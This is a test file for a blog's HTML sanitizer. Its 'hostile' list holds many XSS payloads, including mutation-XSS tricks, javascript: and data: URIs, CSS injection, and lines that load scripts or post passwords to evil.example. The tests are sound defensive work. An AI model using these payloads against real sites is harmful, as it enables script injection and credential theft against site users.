// @vitest-environment jsdom
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { blockTags, inlineTags, tagAttributes } from '#shared/domain/posts/article-html.ts'
import { soundCards, unsoundCards } from '#shared/testing/embed-cards.ts'
import { inheritedNames } from '#shared/testing/inherited-names.ts'
import { sanitize } from './sanitize.ts'

const vocabulary = new Set<string>([...blockTags, ...inlineTags, 'tbody'])
/** The attributes that the sanitizer itself adds, and the only values that it gives them. */
const added: Record<string, RegExp> = {
  rel: /^noopener$/,
  loading: /^lazy$/,
  decoding: /^async$/,
  srcset: /^(\/media\/[0-9a-f-]{36}-\d+\.webp \d+w(, |$))+$/,
  sizes: /^\(min-width: 80rem\) 54rem, \(min-width: 45rem\) 42rem, 100vw$/,
}
const named = (tag: string) =>
  new Set([...(tagAttributes['*'] ?? []), ...(tagAttributes[tag] ?? []), ...Object.keys(added)])

/** Parses HTML like a browser, and returns everything in it that must not be there. */
function faultsIn(html: string): string[] {
  const parse = (text: string) => new DOMParser().parseFromString(text, 'text/html').body
  const once = parse(html)
  // Parses the serialized result again, because mutation XSS appears only then.
  const twice = parse(once.innerHTML)
  return [once, twice].flatMap((body) => [...body.querySelectorAll('*')].flatMap(faultsOf))
}

/** Whether a card links to a provider and contains nothing but its link, its picture and its title. */
function isCard({ outerHTML }: Element): boolean {
  const form =
    /^<figure class="embed"><a href="([^"]+)" rel="noopener">(?:<img [^>]*>)?<strong>[^<]+<\/strong><\/a><\/figure>$/
  return /^https:\/\/(www\.youtube|vimeo|podcasts\.apple|open\.spotify)\.com\//.test(
    form.exec(outerHTML)?.[1] ?? '',
  )
}

function faultsOf(element: Element): string[] {
  const tag = element.localName
  const faults = vocabulary.has(tag) && element.namespaceURI?.endsWith('xhtml') ? [] : [`<${tag}>`]
  for (const { name, value } of element.attributes) {
    if (!named(tag).has(name)) faults.push(`<${tag} ${name}>`)
    if (added[name]?.test(value) === false) faults.push(`${name} ${value}`)
    if (name === 'href' && !/^(https?:|mailto:|tel:)/i.test(new URL(value, 'https://here.example/').href)) {
      faults.push(`href ${value}`)
    }
    if (tag === 'figure' && name === 'class' && value !== 'gallery' && !isCard(element))
      faults.push(`class ${value}`)
    if (name === 'id' && !/^note(?:ref)?_\d{1,3}$/.test(value)) faults.push(`id ${value}`)
    if (name === 'aria-label' && !/^(Footnotes|(Footnote|Back to reference) \d{1,3})$/.test(value)) {
      faults.push(`aria-label ${value}`)
    }
    if (name === 'src' && !/^(https?:\/\/|\/media\/[\w.-]+$)/i.test(value)) faults.push(`src ${value}`)
    if (name === 'style' && !/^((color|background-color|text-align):[\w#(),.% ]+;?)+$/.test(value)) {
      faults.push(`style ${value}`)
    }
  }
  return faults
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onload="alert(1)">',
  '<img/src="https://a.example/x.png"/onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/x.png">',
  '<img src="/media/../api/admin/logout">',
  '<img src="/api/admin/me">',
  '<img srcset="javascript:alert(1) 1x" src="https://a.example/x.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x0A;javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example" target="_self" rel="opener" onclick="x()" ping="https://evil.example">x</a>',
  '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
  '<img src="/media/a.png" width=9 height=9 srcset="https://evil.example/x.png 1w" sizes="1px" loading=eager>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;</textarea>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video poster="javascript:alert(1)" src="x"><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<aside class="callout-note fixed inset-0" onclick=alert(1)>x</aside><summary onfocus=alert(1) tabindex=1>x</summary>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;background-image:url(https://evil.example/x)">x</p>',
  '<p style="text-align:center;position:absolute">x</p>',
  '<p style="color:r\\65 d;behavior:url(x)">x</p>',
  '<p id="x" class="admin" data-x="1" contenteditable tabindex=1 accesskey=x>x</p>',
  '<code class="language-ts fixed inset-0">x</code>',
  '<td colspan="9999999999" rowspan="-1">x</td><th scope="x">y</th>',
  '<!--<img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "<script>">]>',
  '<p title="<script>alert(1)</script>">x</p>',
  '<img alt="&quot; onerror=alert(1) x=&quot;" src="https://a.example/x.png">',
  '<a title="`onmouseover=alert(1)" href="https://a.example/?a=1&b=2">x</a>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p><a href="https://a.example"><p><a href="https://b.example">x',
  '<ul><li><table><tr><td><li><p><b><i></b></i>',
  `${'<b>'.repeat(190)}deep`,
  '<<<<script>alert(1)//<</script>',
  '<a\u0000href="javascript:alert(1)">x</a>',
  '\ufeff<script\u2028>alert(1)</script>',
]

describe('an article', () => {
  test.each(hostile.map((html) => [html.slice(0, 100), html]))('with %s becomes safe', (_label, html) => {
    const clean = sanitize(html)

    expect(faultsIn(clean)).toEqual([])
    expect(sanitize(clean)).toBe(clean)
  })

  test('of hostile pieces in any order becomes safe, and cleaning it twice changes nothing', () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...hostile),
        fc.constantFrom(...soundCards, ...unsoundCards),
        fc.constantFrom('<figure class="embed">', '</figure>', '<strong>', '</strong></a>'),
        fc.constantFrom(
          '<p>',
          '</p>',
          '<',
          '>',
          '"',
          "'",
          '`',
          '<!--',
          '-->',
          '&lt;',
          '&#60;',
          '</',
          '<table>',
          '<a href="',
        ),
        fc.string({ maxLength: 5 }),
      ),
      { maxLength: 6 },
    )
    fc.assert(
      fc.property(pieces, (parts) => {
        // Two deeply nested pieces in a row are refused. Nothing is stored then, so nothing can be unsafe.
        fc.pre(parts.join('').split('<b>').length < 150)
        const clean = sanitize(parts.join(''))
        expect(faultsIn(clean)).toEqual([])
        expect(sanitize(clean)).toBe(clean)
      }),
      { numRuns: 300 },
    )
  })

  test('keeps everything that the editor writes (R256, R257)', () => {
    const whole = [
      '<h1>One</h1><h6 style="text-align:center">Six</h6>',
      '<p style="text-align:right">A <strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code><br />',
      '<span style="color:#ff0000;background-color:rgb(1, 2, 3)">red</span> <mark>m</mark> <sub>1</sub><sup>2</sup></p>',
      '<ul><li>a<ol start="3"><li>b</li></ol></li></ul>',
      '<blockquote><p>Said</p><cite>Somebody</cite></blockquote>',
      '<pre><code class="language-ts">const a = 1 &lt; 2 &amp;&amp; "b"</code></pre>',
      '<figure><img src="/media/3f2504e0.png" alt="A chart" width="640" height="360" loading="lazy" decoding="async" /><figcaption>Chart</figcaption></figure>',
      '<hr /><table><caption>t</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">d</td></tr></tbody></table>',
      '<p><a href="/blog/other">here</a> <a href="#part">part</a> <a href="mailto:a@b.example">mail</a> <a href="tel:+123">call</a></p>',
      '<aside class="callout-warning"><p><strong>Late</strong></p><p>a</p></aside>',
      '<details><summary>More</summary><p>b</p></details>',
      '<figure class="embed"><a href="https://vimeo.com/76979871" rel="noopener"><img src="/media/a.png" alt="A" loading="lazy" decoding="async" /><strong>Call</strong></a></figure>',
      '<figure class="gallery"><figure><img src="/media/a.png" alt="A" loading="lazy" decoding="async" /></figure><figcaption>a</figcaption></figure>',
    ].join('')

    expect(sanitize(whole)).toBe(whole)
  })

  test.each(soundCards)('keeps the card of a player: %s', (card) => {
    expect(sanitize(card)).toContain('<figure class="embed"><a href="https://')
    expect(sanitize(sanitize(card))).toBe(sanitize(card))
  })

  test.each(unsoundCards)('makes no card of %s', (card) => {
    expect(sanitize(card)).not.toContain('embed"')
    expect(sanitize(sanitize(card))).toBe(sanitize(card))
  })

  test.each([
    ['a line break of PowerPoint', '<p>One\u000Btwo</p>', '<p>One<br />two</p>'],
    [
      'other line separators',
      '<p>One\u0085two\u2028three\u000Cfour</p>',
      '<p>One<br />two<br />three<br />four</p>',
    ],
    ['control characters', '<p>O\u0000n\u0007e\u001B\u007F</p>', '<p>One</p>'],
    ['references to them', '<p>One&#11;two&#x7;&#127;</p>', '<p>One\ntwo</p>'],
    ['line feeds and tabs', '<p>One\n\ttwo\u00A0three</p>', '<p>One\n\ttwo\u00A0three</p>'],
    ['separators in code', '<pre><code>a\u000Bb\u0000</code></pre>', '<pre><code>a\nb</code></pre>'],
    ['separators between blocks', '<ul>\u000C<li>One</li>\u000B</ul>', '<ul>\n<li>One</li>\n</ul>'],
    [
      'attributes that people read',
      '<img src="/media/a.png" alt=" Q3\u000Bchart\u0000\u200B" title="a\r\nb">',
      '<img src="/media/a.png" alt="Q3 chart" title="a b" loading="lazy" decoding="async" />',
    ],
    [
      'addresses',
      '<a href="https://a.example/\u000Bb\u0000">x</a><a href="java\u0001script:alert(1)">y</a>',
      '<a href="https://a.example/b" rel="noopener">x</a><a>y</a>',
    ],
    ['text that would become an element', '<p><\u0000b>x</p>', '<p>&lt;b&gt;x</p>'],
  ])('follows the rules for texts: %s', (_what, html, clean) => {
    expect(sanitize(html)).toBe(clean)
    expect(sanitize(clean)).toBe(clean)
  })

  test('never has a control character, whatever it is written as', () => {
    const control = fc.constantFrom(
      '\u0000',
      '\u0001',
      '\u000B',
      '\u000C',
      '\u001F',
      '\u007F',
      '\u0085',
      '\u009F',
      '\u2028',
      '\u2029',
    )
    const reference = control.map((character) => `&#${character.codePointAt(0)};`)
    const markup = fc.constantFrom(
      '<p>',
      '</p>',
      '<pre>',
      '<code>',
      '<a href="',
      '<img alt="',
      '">',
      '<b',
      'x',
      ' ',
    )
    fc.assert(
      fc.property(fc.array(fc.oneof(control, reference, markup), { maxLength: 20 }), (parts) => {
        expect(sanitize(parts.join(''))).not.toMatch(/(?![\t\n\r])[\p{Cc}\u2028\u2029]/u)
      }),
    )
  })

  test('gets rel="noopener" on links to other sites', () => {
    expect(sanitize('<a href="https://a.example/x" rel="opener">x</a><a href="/blog" rel="me">y</a>')).toBe(
      '<a href="https://a.example/x" rel="noopener">x</a><a href="/blog">y</a>',
    )
  })

  test('leaves links of other schemes without an address (R260)', () => {
    for (const address of ['http://a.example', 'https://a.example', 'mailto:a@b.example', 'tel:+123'])
      expect(sanitize(`<a href="${address}">x</a>`)).toContain(`href="${address}"`)
    for (const address of ['javascript:alert(1)', 'ftp://a.example', 'data:text/html,x', 'vbscript:x'])
      expect(sanitize(`<a href="${address}">x</a>`)).toBe('<a>x</a>')
  })

  test('keeps the text of unknown elements, and drops scripts and frames entirely', () => {
    expect(sanitize('<center><font size=7>Big</font></center><script>x()</script><iframe>y</iframe>')).toBe(
      'Big',
    )
  })

  test('keeps only pictures from the web and from our library (R262)', () => {
    expect(
      sanitize(
        '<img src="https://a.example/a.png"><img src="/media/b.png"><img src="c.png"><img alt="none">',
      ),
    ).toBe(
      '<img src="https://a.example/a.png" loading="lazy" decoding="async" /><img src="/media/b.png" loading="lazy" decoding="async" />',
    )
  })

  test('sets how browsers load pictures, and drops what the input says about it', () => {
    const stem = '/media/0d6a2f7e-6f0e-4a52-9a3e-6ad0a1c0b7aa'
    const foreign = 'srcset="https://evil.example/x.png 9w" sizes="9px" loading="eager" decoding="sync"'

    expect(sanitize(`<img src="${stem}.jpg" width="2000" height="1000" ${foreign}>`)).toBe(
      `<img src="${stem}.jpg" width="2000" height="1000" loading="lazy" decoding="async" srcset="${stem}-640.webp 640w, ${stem}-1280.webp 1280w, ${stem}-1920.webp 1920w" sizes="(min-width: 80rem) 54rem, (min-width: 45rem) 42rem, 100vw" />`,
    )
    // Pictures of unknown size or from elsewhere have no variants.
    for (const picture of [
      `src="${stem}.jpg"`,
      `src="${stem}.jpg" width="wide" height="9"`,
      'src="https://a.example/b.jpg" width="9" height="9"',
    ]) {
      expect(sanitize(`<img ${picture} ${foreign}>`)).not.toMatch(/srcset|sizes/)
    }
  })

  test('that is nested too deeply is refused before it takes time', () => {
    for (const tag of ['<b>', '<noscript>', '<ul><li>']) {
      expect(() => sanitize(tag.repeat(1_000_000))).toThrow(/nested too deeply/)
    }
  })

  test('is tested with a check that does find faults in the hostile input', () => {
    expect(faultsIn('<img src=x onerror=alert(1)>')).toContain('<img onerror>')
    expect(hostile.filter((html) => faultsIn(html).length > 0).length).toBeGreaterThan(50)
  })
})

test('handles names that every object inherits as tags, attributes, classes and styles', () => {
  for (const name of inheritedNames) {
    const html = `<p ${name}="a" style="${name}: red; color:red">A</p><${name} class="${name}">B</${name}><pre><code class="language-${name}">C</code></pre>`
    expect(faultsIn(sanitize(html))).toEqual([])
    expect(sanitize(html)).toContain('<p style="color:red">A</p>')
  }
})
